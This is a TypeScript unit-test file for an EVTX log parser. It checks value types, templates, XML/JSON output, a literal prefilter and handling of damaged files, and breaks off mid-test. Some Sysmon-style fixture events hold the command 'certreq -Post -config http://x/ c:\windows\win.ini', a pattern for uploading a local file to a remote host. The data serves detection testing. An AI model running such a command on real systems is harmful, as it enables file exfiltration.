/**
 * Parser unit tests on EVTX files written by our fixture writer (test/evtx/writer): every value type, templates
 * (shared within a chunk, redefined in the next), nested BinXml, arrays, templateless records, CDATA/char/entity
 * references/PIs, both file versions, dirty files — and each kind of damage the issue names. No shared corpus
 * needed. Values are compared after the same normalisation as the differential test (GUID braces, hex padding,
 * sub-microsecond digits); floats, booleans and SizeT by meaning.
 */
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import {
  parseEvtxBuffer,
  parseEvtxFile,
  recordToJson,
  recordToXml,
  type EvtxError,
  type EvtxRecord,
  type ParserSettings,
  type XmlNode,
} from '../../src/evtx/index.js';
import { decodeEvtxFile } from '../../src/formats/evtxFile.js';
import {
  attr,
  CHUNK_HEADER_SIZE,
  CHUNK_SIZE,
  defaultSystem,
  el,
  FILE_HEADER_SIZE,
  FileFlags,
  fileTime,
  templatelessEvent,
  text,
  truncated,
  windowsEvent,
  withBadChunkHeaderChecksum,
  withBadChunkMagic,
  withBadFileHeaderChecksum,
  withBadRecordsChecksum,
  withGarbledRecordBody,
  withRecordSizeMismatch,
  withZeroedChunk,
  writeEvtx,
  type DataField,
  type RecordSpec,
} from './writer/index.js';
import { flattenEvent, normaliseValue, systemValue, type FlatEvent } from './support/compare.js';
import { parseXmlDocument } from './support/evtxexport.js';

// --- helpers ------------------------------------------------------------------------------------------

interface Parsed {
  records: EvtxRecord[];
  errors: EvtxError[];
}

function parse(bytes: Uint8Array, settings?: ParserSettings, name = 'fixture.evtx'): Parsed {
  const out: Parsed = { records: [], errors: [] };
  for (const item of parseEvtxBuffer(bytes, name, settings)) {
    if ('record' in item) out.records.push(item.record);
    else out.errors.push(item.error);
  }
  return out;
}

function flat(r: EvtxRecord): FlatEvent {
  return flattenEvent(r.root());
}

function dataValue(f: FlatEvent, name: string): string | undefined {
  return f.eventData.find(([k]) => k === name)?.[1];
}

/** All values of Data elements with this name, joined: arrays may be one element or one element per item. */
function dataValues(f: FlatEvent, name: string): string {
  return f.eventData
    .filter(([k]) => k === name)
    .map(([, v]) => v)
    .join(',');
}

function ids(p: Parsed): number[] {
  return p.records.map((r) => r.recordId);
}

function event(recordId: number, fields: DataField[], nested = false): RecordSpec {
  return windowsEvent(defaultSystem({ recordId: BigInt(recordId) }), fields, { nested });
}

function commandLineEvent(recordId: number, cmd = `cmd.exe /c echo ${recordId}`): RecordSpec {
  return event(recordId, [
    { name: 'Image', value: { type: 'string', value: 'C:\\Windows\\System32\\cmd.exe' } },
    { name: 'CommandLine', value: { type: 'string', value: cmd } },
    { name: 'ProcessId', value: { type: 'uint32', value: 1000 + recordId } },
  ]);
}

/** Walks a parsed JSON value by keys; undefined when a step is missing. */
function at(json: unknown, ...keys: string[]): unknown {
  let cur: unknown = json;
  for (const k of keys) {
    if (cur === null || typeof cur !== 'object') return undefined;
    cur = (cur as Record<string, unknown>)[k];
  }
  return cur;
}

/** Names the first error for assertion messages. */
function errs(p: Parsed): string {
  return JSON.stringify(p.errors.slice(0, 5));
}

// --- value types ----------------------------------------------------------------------------------------

const ALL_TYPES: DataField[] = [
  { name: 'String', value: { type: 'string', value: 'C:\\Windows\\System32\\certreq.exe' } },
  { name: 'Unicode', value: { type: 'string', value: 'Relevé_2025 – ✓ 😀 日本' } },
  { name: 'Markup', value: { type: 'string', value: `a<b>&c"d'e` } },
  { name: 'EmptyString', value: { type: 'string', value: '' } },
  { name: 'Ansi', value: { type: 'ansi', value: 'ansi text' } },
  { name: 'Int8', value: { type: 'int8', value: -5 } },
  { name: 'UInt8', value: { type: 'uint8', value: 250 } },
  { name: 'Int16', value: { type: 'int16', value: -12345 } },
  { name: 'UInt16', value: { type: 'uint16', value: 65535 } },
  { name: 'Int32', value: { type: 'int32', value: -2147483648 } },
  { name: 'UInt32', value: { type: 'uint32', value: 4294967295 } },
  { name: 'Int64', value: { type: 'int64', value: -9223372036854775808n } },
  { name: 'UInt64', value: { type: 'uint64', value: 18446744073709551615n } },
  { name: 'Real32', value: { type: 'real32', value: 1.5 } },
  { name: 'Real64', value: { type: 'real64', value: -2.25e10 } },
  { name: 'BoolTrue', value: { type: 'bool', value: 1 } },
  { name: 'BoolFalse', value: { type: 'bool', value: 0 } },
  { name: 'BoolOdd', value: { type: 'bool', value: 0x100 } },
  { name: 'Binary', value: { type: 'binary', value: Uint8Array.of(0x01, 0x02, 0xab, 0x00, 0xff) } },
  { name: 'Guid', value: { type: 'guid', value: '{00112233-4455-6677-8899-AABBCCDDEEFF}' } },
  { name: 'SizeT64', value: { type: 'sizet', value: 0x1234n, width: 8 } },
  { name: 'SizeT32', value: { type: 'sizet', value: 0x2bn, width: 4 } },
  { name: 'FileTime', value: { type: 'filetime', value: fileTime('2020-01-02T03:04:05.678Z', 9) } },
  {
    name: 'SysTime',
    value: { type: 'systime', value: { year: 2021, month: 12, dayOfWeek: 5, day: 31, hour: 23, minute: 59, second: 58, milliseconds: 765 } },
  },
  { name: 'Sid', value: { type: 'sid', value: 'S-1-5-21-1004336348-1177238915-682003330-512' } },
  { name: 'HexInt32', value: { type: 'hexint32', value: 0x1f } },
  { name: 'HexInt64', value: { type: 'hexint64', value: 0x8000000000000abcn } },
  { name: 'Null', value: { type: 'null' } },
];

/** Expected rendering (normalised), or a predicate where renderers legitimately differ in form. */
const EXPECTED: Record<string, string | ((v: string) => boolean)> = {
  String: 'C:\\Windows\\System32\\certreq.exe',
  Unicode: 'Relevé_2025 – ✓ 😀 日本',
  Markup: `a<b>&c"d'e`,
  EmptyString: '',
  Ansi: 'ansi text',
  Int8: '-5',
  UInt8: '250',
  Int16: '-12345',
  UInt16: '65535',
  Int32: '-2147483648',
  UInt32: '4294967295',
  Int64: '-9223372036854775808',
  UInt64: '18446744073709551615',
  Real32: (v) => Number(v) === 1.5,
  Real64: (v) => Number(v) === -2.25e10,
  BoolTrue: (v) => v.toLowerCase() === 'true',
  BoolFalse: (v) => v.toLowerCase() === 'false',
  BoolOdd: (v) => v.toLowerCase() === 'true',
  Binary: (v) => v.toUpperCase() === '0102AB00FF',
  Guid: '00112233-4455-6677-8899-AABBCCDDEEFF',
  // Windows prints SizeT in hex, evtxexport in decimal: compare the number.
  SizeT64: (v) => Number(v) === 0x1234,
  SizeT32: (v) => Number(v) === 0x2b,
  FileTime: '2020-01-02T03:04:05.678000Z',
  SysTime: '2021-12-31T23:59:58.765000Z',
  Sid: 'S-1-5-21-1004336348-1177238915-682003330-512',
  HexInt32: '0x1f',
  HexInt64: '0x8000000000000abc',
};

/**
 * An element whose only content is an optional substitution with a NULL value is left out, as Windows
 * renders it (and evtxexport does; checked with this writer's output).
 */
const OMITTED_WHEN_NULL = new Set(['Null']);

function assertAllTypes(f: FlatEvent): void {
  assert.deepEqual(
    f.eventData.map(([k]) => k),
    ALL_TYPES.map((t) => t.name).filter((n) => !OMITTED_WHEN_NULL.has(n)),
    'EventData names in template order; optional NULL substitutions leave no element',
  );
  for (const [name, want] of Object.entries(EXPECTED)) {
    const got = dataValue(f, name);
    assert.notEqual(got, undefined, `${name} missing`);
    if (typeof want === 'string') assert.equal(got, normaliseValue(want), `${name}`);
    else assert.ok(want(got!), `${name}: unexpected rendering ${JSON.stringify(got)}`);
  }
}

function assertSystem(f: FlatEvent, recordId: number): void {
  const s = defaultSystem();
  assert.equal(systemValue(f, 'Provider/@Name'), s.provider);
  assert.equal(systemValue(f, 'Provider/@Guid'), normaliseValue(s.providerGuid));
  assert.equal(systemValue(f, 'EventID'), '1');
  assert.equal(systemValue(f, 'Version'), '5');
  assert.equal(systemValue(f, 'Level'), '4');
  assert.equal(systemValue(f, 'Task'), '1');
  assert.equal(systemValue(f, 'Opcode'), '0');
  assert.equal(systemValue(f, 'Keywords'), '0x8000000000000000');
  assert.equal(systemValue(f, 'TimeCreated/@SystemTime'), '2024-03-01T10:20:30.123456Z');
  assert.equal(systemValue(f, 'EventRecordID'), String(recordId));
  assert.equal(systemValue(f, 'Correlation/@ActivityID'), normaliseValue(s.activityId!));
  assert.equal(systemValue(f, 'Execution/@ProcessID'), '2044');
  assert.equal(systemValue(f, 'Execution/@ThreadID'), '3096');
  assert.equal(systemValue(f, 'Channel'), s.channel);
  assert.equal(systemValue(f, 'Computer'), s.computer);
  assert.equal(systemValue(f, 'Security/@UserID'), 'S-1-5-18');
}

function findNode(n: XmlNode, pred: (n: XmlNode) => boolean): XmlNode | undefined {
  if (pred(n)) return n;
  if (n.kind === 'element') {
    for (const c of n.children) {
      const hit = findNode(c, pred);
      if (hit) return hit;
    }
  }
  return undefined;
}

// --- tests -----------------------------------------------------------------------------------------------

describe('EVTX parser on writer fixtures: structure and values', () => {
  test('one templated record: header fields, System and every value type', () => {
    const file = writeEvtx([event(7, ALL_TYPES)]);
    const p = parse(file.bytes);
    assert.deepEqual(p.errors, []);
    assert.equal(p.records.length, 1);
    const r = p.records[0]!;
    assert.equal(r.recordId, 7);
    assert.equal(r.chunkIndex, 0);
    assert.equal(r.offset, FILE_HEADER_SIZE + CHUNK_HEADER_SIZE, 'offset is the file offset of the record');
    assert.equal(normaliseValue(r.timestamp), '2024-03-01T10:20:30.123456Z');
    const f = flat(r);
    assertSystem(f, 7);
    assertAllTypes(f);
  });

  test('EventData in a nested BinXml substitution (0x21) renders like inline EventData', () => {
    const p = parse(writeEvtx([event(1, ALL_TYPES, true), event(2, ALL_TYPES, false)]).bytes);
    assert.deepEqual(p.errors, []);
    assert.equal(p.records.length, 2);
    const nested = flat(p.records[0]!);
    assertSystem(nested, 1);
    assertAllTypes(nested);
    assert.deepEqual(nested.eventData, flat(p.records[1]!).eventData);
  });

  test('optional substitutions with NULL values: no attribute value, no element; empty strings stay', () => {
    const sys = defaultSystem({ recordId: 3n });
    delete sys.activityId;
    delete sys.userSid;
    const p = parse(
      writeEvtx([
        windowsEvent(sys, [
          { name: 'A', value: { type: 'null' } },
          { name: 'B', value: { type: 'string', value: '' } },
          { name: 'C', value: { type: 'string', value: 'c' } },
        ]),
      ]).bytes,
    );
    assert.deepEqual(p.errors, []);
    const f = flat(p.records[0]!);
    assert.ok([undefined, ''].includes(systemValue(f, 'Correlation/@ActivityID')));
    assert.ok([undefined, ''].includes(systemValue(f, 'Security/@UserID')));
    assert.deepEqual(f.eventData, [
      ['B', ''],
      ['C', 'c'],
    ]);
  });

  test('arrays: every item, in order', () => {
    const fields: DataField[] = [
      { name: 'Strings', value: { type: 'stringArray', value: ['alpha', 'be ta', 'γ'] } },
      { name: 'U16', value: { type: 'uint16Array', value: [1, 2, 65535] } },
      { name: 'U32', value: { type: 'uint32Array', value: [7, 4294967295] } },
      { name: 'U64', value: { type: 'uint64Array', value: [1n, 18446744073709551615n] } },
      { name: 'Guids', value: { type: 'guidArray', value: ['{00112233-4455-6677-8899-AABBCCDDEEFF}', '{FFEEDDCC-BBAA-9988-7766-554433221100}'] } },
      { name: 'Sids', value: { type: 'sidArray', value: ['S-1-5-18', 'S-1-5-21-1-2-3-500'] } },
    ];
    const p = parse(writeEvtx([event(1, fields)]).bytes);
    assert.deepEqual(p.errors, []);
    const f = flat(p.records[0]!);
    assert.equal(dataValues(f, 'Strings'), 'alpha,be ta,γ');
    assert.equal(dataValues(f, 'U16'), '1,2,65535');
    assert.equal(dataValues(f, 'U32'), '7,4294967295');
    assert.equal(dataValues(f, 'U64'), '1,18446744073709551615');
    assert.equal(
      dataValues(f, 'Guids').split(',').map(normaliseValue).join(','),
      '00112233-4455-6677-8899-AABBCCDDEEFF,FFEEDDCC-BBAA-9988-7766-554433221100',
    );
    assert.equal(dataValues(f, 'Sids'), 'S-1-5-18,S-1-5-21-1-2-3-500');
  });

  test('templates and names are shared within a chunk and redefined per chunk', () => {
    const specs = [1, 2, 3, 4, 5].map((i) => commandLineEvent(i));
    const file = writeEvtx(specs, { maxRecordsPerChunk: 2 });
    assert.equal(file.chunks.length, 3);
    const p = parse(file.bytes);
    assert.deepEqual(p.errors, []);
    assert.deepEqual(ids(p), [1, 2, 3, 4, 5]);
    p.records.forEach((r, i) => {
      const chunk = file.chunks.find((c) => c.records.some((x) => Number(x.recordId) === r.recordId))!;
      assert.equal(r.chunkIndex, chunk.index, `record ${r.recordId} chunk`);
      assert.equal(r.offset, chunk.records.find((x) => Number(x.recordId) === r.recordId)!.offset, `record ${r.recordId} offset`);
      const f = flat(r);
      assertSystem(f, i + 1);
      assert.equal(dataValue(f, 'CommandLine'), `cmd.exe /c echo ${i + 1}`);
      assert.equal(dataValue(f, 'ProcessId'), String(1001 + i));
    });
  });

  test('a full chunk flows into the next one (hundreds of records)', () => {
    const specs = Array.from({ length: 600 }, (_, i) => commandLineEvent(i + 1, 'x'.repeat(i % 97)));
    const file = writeEvtx(specs);
    assert.ok(file.chunks.length >= 2, 'fixture spans several chunks');
    const p = parse(file.bytes);
    assert.deepEqual(p.errors, []);
    assert.deepEqual(ids(p), specs.map((_, i) => i + 1));
    assert.equal(dataValue(flat(p.records[599]!), 'CommandLine'), 'x'.repeat(599 % 97));
  });

  test('templateless record (values inline, as forwarded events are written) reads like the templated one', () => {
    const sys = defaultSystem({ recordId: 9n });
    const templated = windowsEvent(sys, [
      { name: 'Image', value: { type: 'string', value: 'C:\\Windows\\System32\\certreq.exe' } },
      { name: 'CommandLine', value: { type: 'string', value: 'certreq -Post -config http://x/ c:\\windows\\win.ini' } },
      { name: 'Empty', value: { type: 'string', value: '' } },
    ]);
    const inline = templatelessEvent(
      { ...sys, recordId: 10n },
      [
        { name: 'Image', value: 'C:\\Windows\\System32\\certreq.exe' },
        { name: 'CommandLine', value: 'certreq -Post -config http://x/ c:\\windows\\win.ini' },
        { name: 'Empty', value: '' },
      ],
      '2024-03-01T10:20:30.1234567Z',
    );
    const p = parse(writeEvtx([templated, inline]).bytes);
    assert.deepEqual(p.errors, []);
    assert.equal(p.records.length, 2);
    const a = flat(p.records[0]!);
    const b = flat(p.records[1]!);
    assert.deepEqual(b.eventData, a.eventData);
    assert.equal(systemValue(b, 'EventRecordID'), '10');
    assert.equal(systemValue(b, 'TimeCreated/@SystemTime'), systemValue(a, 'TimeCreated/@SystemTime'));
    assert.equal(systemValue(b, 'Provider/@Name'), 'Microsoft-Windows-Sysmon');
  });

  test('CDATA, character references, entity references and processing instructions', () => {
    const root = el('Event', [attr('xmlns', text('http://schemas.microsoft.com/win/2004/08/events/event'))], [
      el('System', [], [el('EventID', [], [text('42')]), el('EventRecordID', [], [text('5')])]),
      el('EventData', [], [
        el('Data', [attr('Name', text('Mixed'))], [
          text('a'),
          { kind: 'cdata', text: '<raw & data>' },
          { kind: 'entityRef', name: 'amp' },
          { kind: 'charRef', code: 0x41 },
          { kind: 'entityRef', name: 'lt' },
        ]),
        el('Data', [attr('Name', { kind: 'charRef', code: 0x4e })], [text('attr name from a char ref')]),
        { kind: 'pi', target: 'app-pi', data: 'key="value"' },
      ]),
    ]);
    const p = parse(writeEvtx([{ recordId: 5, written: fileTime('2024-01-01T00:00:00Z'), body: { element: root } }]).bytes);
    assert.deepEqual(p.errors, []);
    const r = p.records[0]!;
    const f = flat(r);
    assert.equal(systemValue(f, 'EventID'), '42');
    assert.equal(dataValue(f, 'Mixed'), 'a<raw & data>&A<');
    assert.equal(dataValue(f, 'N'), 'attr name from a char ref');
    assert.ok(findNode(r.root(), (n) => n.kind === 'cdata' && n.text === '<raw & data>'), 'CDATA kept as a cdata node');
    const pi = findNode(r.root(), (n) => n.kind === 'pi');
    assert.ok(pi && pi.kind === 'pi' && pi.target === 'app-pi' && pi.data === 'key="value"', `PI: ${JSON.stringify(pi)}`);
  });

  test('recordToXml escapes markup and round-trips through an XML parser', () => {
    const p = parse(writeEvtx([event(1, ALL_TYPES), event(2, ALL_TYPES, true)]).bytes);
    for (const r of p.records) {
      const xml = recordToXml(r.root());
      const reparsed = flattenEvent(parseXmlDocument(xml));
      assert.deepEqual(reparsed, flat(r), `record ${r.recordId} XML:\n${xml.slice(0, 400)}`);
    }
  });

  test('recordToJson has the evtx_dump shape (Event.System, Event.EventData, #attributes)', () => {
    const p = parse(writeEvtx([event(1, ALL_TYPES, true)]).bytes);
    const json = recordToJson(p.records[0]!.root());
    assert.ok(at(json, 'Event'), `no Event key: ${JSON.stringify(json).slice(0, 200)}`);
    assert.equal(at(json, 'Event', 'System', 'Provider', '#attributes', 'Name'), 'Microsoft-Windows-Sysmon');
    assert.equal(String(at(json, 'Event', 'System', 'EventID')), '1');
    assert.equal(String(at(json, 'Event', 'System', 'EventRecordID')), '1');
    assert.equal(normaliseValue(String(at(json, 'Event', 'System', 'TimeCreated', '#attributes', 'SystemTime'))), '2024-03-01T10:20:30.123456Z');
    assert.equal(at(json, 'Event', 'EventData', 'String'), 'C:\\Windows\\System32\\certreq.exe');
    assert.equal(at(json, 'Event', 'EventData', 'Markup'), `a<b>&c"d'e`);
    assert.equal(String(at(json, 'Event', 'EventData', 'UInt32')), '4294967295');
    assert.equal(String(at(json, 'Event', 'EventData', 'UInt64')), '18446744073709551615');
  });

  test('file format 3.2, dirty/full flags and more chunks than the header counts are all read', () => {
    const specs = [1, 2, 3, 4].map((i) => commandLineEvent(i));
    const file = writeEvtx(specs, { minorVersion: 2, flags: FileFlags.Dirty | FileFlags.Full, headerChunkCount: 1, maxRecordsPerChunk: 2 });
    const p = parse(file.bytes);
    assert.deepEqual(ids(p), [1, 2, 3, 4], errs(p));
  });

  test('parseEvtxFile streams the same records as parseEvtxBuffer', async () => {
    await withTempFile(Array.from({ length: 300 }, (_, i) => commandLineEvent(i + 1)), async (path, bytes) => {
      const fromBuffer = parse(bytes, undefined, path);
      const fromFile: EvtxRecord[] = [];
      for await (const item of parseEvtxFile(path)) {
        if (!('record' in item)) assert.fail(`error item: ${JSON.stringify(item.error)}`);
        fromFile.push(item.record);
      }
      assert.equal(fromFile.length, 300);
      assert.deepEqual(fromFile.map((r) => [r.recordId, r.chunkIndex, r.offset]), fromBuffer.records.map((r) => [r.recordId, r.chunkIndex, r.offset]));
      assert.deepEqual(fromFile.map(flat), fromBuffer.records.map(flat));
    });
  });

  test('decodeEvtxFile turns records into WinEvents (typed System, EventData by name, origin)', async () => {
    await withTempFile(Array.from({ length: 300 }, (_, i) => commandLineEvent(i + 1)), async (path) => {
      let n = 0;
      for await (const item of decodeEvtxFile(path, {})) {
        if (!('event' in item)) assert.fail(`error item: ${JSON.stringify(item.error)}`);
        const ev = item.event;
        n++;
        assert.equal(ev.system.recordId, n);
        assert.equal(ev.system.eventId, 1);
        assert.equal(ev.system.provider, 'Microsoft-Windows-Sysmon');
        assert.equal(ev.system.channel, 'Microsoft-Windows-Sysmon/Operational');
        assert.equal(ev.system.computer, 'WS01.corp.example');
        assert.equal(ev.system.processId, 2044);
        assert.equal(ev.system.threadId, 3096);
        assert.equal(ev.system.level, 4);
        assert.equal(ev.system.userSid, 'S-1-5-18');
        assert.equal(normaliseValue(ev.system.timeCreated), '2024-03-01T10:20:30.123456Z');
        assert.equal(ev.data['CommandLine'], `cmd.exe /c echo ${n}`);
        assert.equal(ev.data['Image'], 'C:\\Windows\\System32\\cmd.exe');
        assert.equal(ev.origin.file, path);
      }
      assert.equal(n, 300);
    });
  });
  test('large multi-chunk file: records come out in file order with consistent chunk/offset', async () => {
    const specs = Array.from({ length: 8000 }, (_, i) => commandLineEvent(i + 1, `cmd.exe /c job ${i + 1}`));
    await withTempFile(specs, async (path) => {
      let expected = 1;
      let lastOffset = 0;
      let lastChunk = 0;
      for await (const item of parseEvtxFile(path)) {
        if (!('record' in item)) assert.fail(`error item: ${JSON.stringify(item.error)}`);
        const r = item.record;
        assert.equal(r.recordId, expected, 'order preserved');
        assert.ok(r.offset > lastOffset && r.chunkIndex >= lastChunk, `record ${r.recordId} at chunk ${r.chunkIndex} offset ${r.offset}`);
        assert.equal(Math.floor((r.offset - FILE_HEADER_SIZE) / CHUNK_SIZE), r.chunkIndex);
        if (r.recordId % 997 === 0) assert.equal(dataValue(flat(r), 'CommandLine'), `cmd.exe /c job ${r.recordId}`);
        lastOffset = r.offset;
        lastChunk = r.chunkIndex;
        expected++;
      }
      assert.equal(expected - 1, 8000);
    });
  });

  test('literal prefilter is sound: every record whose values contain the literal is decoded', async () => {
    const sys = (id: number): ReturnType<typeof defaultSystem> => defaultSystem({ recordId: BigInt(id) });
    const str = (name: string, value: string): DataField => ({ name, value: { type: 'string', value } });
    // Literal text inside a template: the second record using it carries no "certreq" bytes of its own.
    const literalTemplate = {
      guid: '{C0FFEE00-1111-2222-3333-444444444444}',
      root: el('Event', [attr('xmlns', text('http://schemas.microsoft.com/win/2004/08/events/event'))], [
        el('System', [], [
          el('Provider', [attr('Name', text('Microsoft-Windows-Sysmon'))]),
          el('EventID', [], [text('1')]),
          el('TimeCreated', [attr('SystemTime', { kind: 'sub', index: 0, type: 'filetime' })]),
          el('EventRecordID', [], [{ kind: 'sub', index: 1, type: 'uint64' }]),
          el('Channel', [], [text('Microsoft-Windows-Sysmon/Operational')]),
          el('Computer', [], [text('WS01')]),
        ]),
        el('EventData', [], [el('Data', [attr('Name', text('Image'))], [text('C:\\Windows\\System32\\CertReq.exe')])]),
      ]),
    };
    const fromTemplate = (id: number): RecordSpec => ({
      recordId: id,
      written: sys(id).timeCreated,
      body: { template: literalTemplate, values: [{ type: 'filetime', value: sys(id).timeCreated }, { type: 'uint64', value: BigInt(id) }] },
    });
    const split = el('Event', [], [
      el('System', [], [
        el('Provider', [attr('Name', text('Microsoft-Windows-Sysmon'))]),
        el('EventID', [], [text('1')]),
        el('TimeCreated', [attr('SystemTime', text('2024-03-01T10:20:30.1234567Z'))]),
        el('EventRecordID', [], [text('9')]),
        el('Channel', [], [text('Microsoft-Windows-Sysmon/Operational')]),
        el('Computer', [], [text('WS01')]),
      ]),
      el('EventData', [], [el('Data', [attr('Name', text('CommandLine'))], [text('cert'), { kind: 'charRef', code: 0x72 }, text('eq -Post')])]),
    ]);
    const matching = new Set([1, 2, 3, 4, 5, 6, 9]);
    const specs: RecordSpec[] = [
      windowsEvent(sys(1), [str('Image', 'C:\\WINDOWS\\SysWOW64\\CERTREQ.EXE')]),
      windowsEvent(sys(2), [str('Image', 'x'), str('CommandLine', 'CertReq.exe -Post -config http://x/')], { nested: true }),
      templatelessEvent(sys(3), [{ name: 'CommandLine', value: 'certreq -submit' }], '2024-03-01T10:20:30.1234567Z'),
      windowsEvent(sys(4), [{ name: 'OriginalFileName', value: { type: 'ansi', value: 'certreq.exe' } }]),
      fromTemplate(5),
      fromTemplate(6),
      windowsEvent(sys(7), [str('Image', 'C:\\Windows\\notepad.exe')]),
      windowsEvent(sys(8), [str('Image', 'C:\\Windows\\System32\\certutil.exe')]),
      { recordId: 9, written: sys(9).timeCreated, body: { element: split } },
    ];
    await withTempFile(specs, async (path) => {
      const all = new Map<number, string>();
      for await (const item of decodeEvtxFile(path, {})) {
        if (!('event' in item)) assert.fail(`error item: ${JSON.stringify(item.error)}`);
        all.set(item.event.system.recordId!, JSON.stringify(item.event.data).toLowerCase());
      }
      assert.deepEqual([...all.keys()].filter((id) => all.get(id)!.includes('certreq')).sort(), [...matching].sort(), 'fixture sanity');
      const kept = new Set<number>();
      for await (const item of decodeEvtxFile(path, { prefilterLiterals: ['certreq'] })) {
        if (!('event' in item)) assert.fail(`error item: ${JSON.stringify(item.error)}`);
        kept.add(item.event.system.recordId!);
      }
      for (const id of matching) assert.ok(kept.has(id), `prefilter skipped record ${id}, whose values contain "certreq"`);
    });
  });

  test('literal prefilter: array items and the non-ASCII letters whose lowercase is ASCII (K, İ) are found; the rest is skipped', async () => {
    const sys = (id: number): ReturnType<typeof defaultSystem> => defaultSystem({ recordId: BigInt(id) });
    const str = (name: string, value: string): DataField => ({ name, value: { type: 'string', value } });
    const literals = ['park', 'hopi', 'certreq'];
    const specs: RecordSpec[] = [
      windowsEvent(sys(1), [str('Image', 'C:\\PAR\u212A\\x.exe')]), // Kelvin sign: lowercases to "k"
      windowsEvent(sys(2), [str('Image', 'C:\\HOP\u0130\\x.exe')]), // İ: lowercases to "i" + U+0307
      windowsEvent(sys(3), [{ name: 'Args', value: { type: 'stringArray', value: ['-Post', 'C:\\Windows\\CertReq.exe', 'x'] } }], { nested: true }),
      windowsEvent(sys(4), [str('Image', 'C:\\Windows\\notepad.exe')]),
      windowsEvent(sys(5), [{ name: 'Args', value: { type: 'stringArray', value: ['cert', 'req'] } }]), // joined "cert,req": no literal
      windowsEvent(sys(6), [str('Image', 'C:\\PAR\u212C\\x.exe')]), // U+212C (script B) does not fold to ASCII
    ];
    await withTempFile(specs, async (path) => {
      const matching: number[] = [];
      for await (const item of decodeEvtxFile(path, {})) {
        if (!('event' in item)) assert.fail(`error item: ${JSON.stringify(item.error)}`);
        const text = JSON.stringify(item.event.data).toLowerCase();
        if (literals.some((l) => text.includes(l))) matching.push(item.event.system.recordId!);
      }
      assert.deepEqual(matching, [1, 2, 3], 'fixture sanity: what a lower-casing rule would match');
      const kept: number[] = [];
      for await (const item of decodeEvtxFile(path, { prefilterLiterals: literals })) {
        if (!('event' in item)) assert.fail(`error item: ${JSON.stringify(item.error)}`);
        kept.push(item.event.system.recordId!);
      }
      assert.deepEqual(kept, [1, 2, 3]);
    });
  });
});

async function withTempFile(specs: RecordSpec[], body: (path: string, bytes: Uint8Array) => Promise<void>): Promise<void> {
  const dir = mkdtempSync(join(tmpdir(), 'pw-evtx-'));
  try {
    const bytes = writeEvtx(specs).bytes;
    const path = join(dir, 'fixture.evtx');
    writeFileSync(path, bytes);
    await body(path, bytes);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

describe('EVTX parser on writer fixtures: damaged files', () => {
  const specs = Array.from({ length: 9 }, (_, i) => commandLineEvent(i + 1));
  const good = writeEvtx(specs, { maxRecordsPerChunk: 3 }); // chunks: [1,2,3] [4,5,6] [7,8,9]
  const all = [1, 2, 3, 4, 5, 6, 7, 8, 9];

  test('the undamaged fixture parses cleanly, with and without checksum validation', () => {
    assert.deepEqual(ids(parse(good.bytes)), all);
    const checked = parse(good.bytes, { validateChecksums: true });
    assert.deepEqual(checked.errors, []);
    assert.deepEqual(ids(checked), all);
  });

  test('records checksum mismatch: reported (chunk named) and the records still used', () => {
    const bad = withBadRecordsChecksum(good.bytes, 1);
    assert.deepEqual(ids(parse(bad)), all);
    const p = parse(bad, { validateChecksums: true });
    assert.deepEqual(ids(p), all, 'data is used where it parses');
    const e = p.errors.find((x) => /checksum|crc/i.test(x.reason));
    assert.ok(e, `checksum mismatch not reported: ${errs(p)}`);
    assert.equal(e.chunkIndex, 1);
    assert.equal(e.file, 'fixture.evtx');
  });

  test('chunk header checksum mismatch: reported and the records still used', () => {
    const p = parse(withBadChunkHeaderChecksum(good.bytes, 2), { validateChecksums: true });
    assert.deepEqual(ids(p), all);
    const e = p.errors.find((x) => /checksum|crc/i.test(x.reason));
    assert.ok(e, `checksum mismatch not reported: ${errs(p)}`);
    assert.equal(e.chunkIndex, 2);
  });

  test('file header checksum mismatch: reported, records still read', () => {
    const p = parse(withBadFileHeaderChecksum(good.bytes), { validateChecksums: true });
    assert.deepEqual(ids(p), all);
    const e = p.errors.find((x) => /checksum|crc/i.test(x.reason));
    assert.ok(e, `file header checksum mismatch not reported: ${errs(p)}`);
    assert.equal(e.chunkIndex, undefined, 'a file header problem names no chunk');
  });

  test('zeroed chunk is skipped; chunks after it are read', () => {
    const p = parse(withZeroedChunk(good.bytes, 1));
    assert.deepEqual(ids(p), [1, 2, 3, 7, 8, 9], errs(p));
  });

  test('bad chunk magic skips that chunk, reports it, reads the rest', () => {
    const p = parse(withBadChunkMagic(good.bytes, 1));
    assert.deepEqual(ids(p), [1, 2, 3, 7, 8, 9]);
    assert.ok(p.errors.some((e) => e.chunkIndex === 1), `bad chunk not reported: ${errs(p)}`);
  });

  test('record size mismatch: reported with its location, then the next record signature is found', () => {
    const rec = good.chunks[0]!.records[1]!; // record 2
    const p = parse(withRecordSizeMismatch(good.bytes, good, 0, 1));
    for (const id of [1, 3, 4, 5, 6, 7, 8, 9]) assert.ok(ids(p).includes(id), `record ${id} lost: got ${ids(p)}; ${errs(p)}`);
    const e = p.errors.find((x) => x.chunkIndex === 0);
    assert.ok(e, `size mismatch not reported: ${errs(p)}`);
    assert.ok(e.offset === rec.offset || e.recordId === 2, `error does not locate record 2 at 0x${rec.offset.toString(16)}: ${JSON.stringify(e)}`);
    // Damage in chunk 0 must not taint the records of intact chunks, nor the records before it.
    const recoveredIds = p.records.filter((r) => r.recovered).map((r) => r.recordId);
    assert.ok(recoveredIds.every((id) => id > 2 && id <= 3), `only records after the damage in chunk 0 may be marked recovered: ${recoveredIds}`);
    assert.deepEqual(parse(good.bytes).records.filter((r) => r.recovered), [], 'an intact file has no recovered records');
  });

  test('garbage between records: the walk resumes at the next signature and marks what follows as recovered', () => {
    const bytes = good.bytes.slice();
    const rec = good.chunks[1]!.records[0]!; // record 4, first of chunk 1
    bytes.fill(0x41, rec.offset, rec.offset + 8); // destroy its signature and size
    const p = parse(bytes);
    const chunk1 = p.records.filter((r) => r.chunkIndex === 1);
    assert.ok(chunk1.length > 0, `nothing recovered in chunk 1: ${errs(p)}`);
    assert.ok(chunk1.every((r) => r.recovered), 'records found by the signature scan are marked recovered');
    assert.ok(p.records.filter((r) => r.chunkIndex !== 1).every((r) => !r.recovered));
    assert.ok(p.errors.some((x) => x.chunkIndex === 1 && /resumed/.test(x.reason)), `resync not reported: ${errs(p)}`);
  });

  test('record whose BinXml is garbage: reported (file, chunk, offset, record id) and the next one is read', () => {
    const rec = good.chunks[1]!.records[1]!; // record 5
    const p = parse(withGarbledRecordBody(good.bytes, good, 1, 1, 0, 40));
